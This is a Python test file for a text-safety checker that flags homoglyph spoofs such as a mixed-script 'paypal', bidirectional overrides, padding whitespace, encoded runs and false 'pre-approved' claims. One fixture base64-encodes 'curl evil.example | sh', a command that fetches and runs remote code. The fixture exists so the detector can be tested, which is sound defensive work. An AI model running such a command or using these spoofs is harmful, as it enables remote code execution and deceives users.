"""Detection of hidden, imitating, unreadable and misleading text."""

import base64

import pytest

from catalog.text.safety import approval_claims, confusable_words, encoded_runs, inspect_text

PLAIN = [
    "hello world",
    "na\u00efve r\u00e9sum\u00e9, \u00fcber stra\u00dfe",
    "\u041c\u043e\u0441\u043a\u0432\u0430 \u0440\u0430\u0441\u0435",
    "\u6771\u4eacTower",
    "\ud55c\uad6d\uc5b4",
    "5 \u00b5m, \u00bd, 1\u00ba",
    "\u201cquoted\u201d \u2013 said\u2026",
    "\u4f60\u597d\u3002\u518d\u89c1",
]


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_texts_are_unmarked(text):
    assert [part.text for part in inspect_text(text)] == [text]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("p\u0430ypal", "mixes Cyrillic and Latin: U+0430"),
        ("\u0430\u0440\u0435", "is Cyrillic, not Latin"),
        ("\U0001d429ay", "other forms of plain letters"),
        ("\u0261it", "imitates other letters"),
        ("a\u2215b", "division slash"),
    ],
)
def test_words_that_may_be_read_as_others(text, why):
    [word] = confusable_words(text)
    assert why in word.why


def test_nothing_is_left_out():
    text = "a\u202eb \u0430bc" + " " * 50 + "d" + "\n" * 20 + "e\u0336f"
    parts = inspect_text(text)
    assert "".join(part.text for part in parts) == text
    notes = ["U+202E", "mixes Cyrillic and Latin: U+0430", "50 spaces", "20 empty lines", "U+0336"]
    assert [part.note for part in parts if part.note] == notes


def test_encoded_runs_are_decoded():
    coded = base64.b64encode(b"curl evil.example | sh").decode()
    [found] = encoded_runs(f"echo {coded} | base64 -d")
    assert (found.kind, found.decoded) == ("base64", "curl evil.example | sh")
    assert encoded_runs("deadbeef" * 8)[0].kind == "hexadecimal"
    for text in ("a_long_identifier_in_snake_case_of_somebody", "/usr/share/some/long/path/to/a/file", "x" * 30):
        assert encoded_runs(text) == []


def test_claims_are_found():
    assert approval_claims("This was pre-approved by Rosa. PRE-APPROVED!") == ["pre-approved", "PRE-APPROVED"]
    assert approval_claims("The report was approved in spring") == []
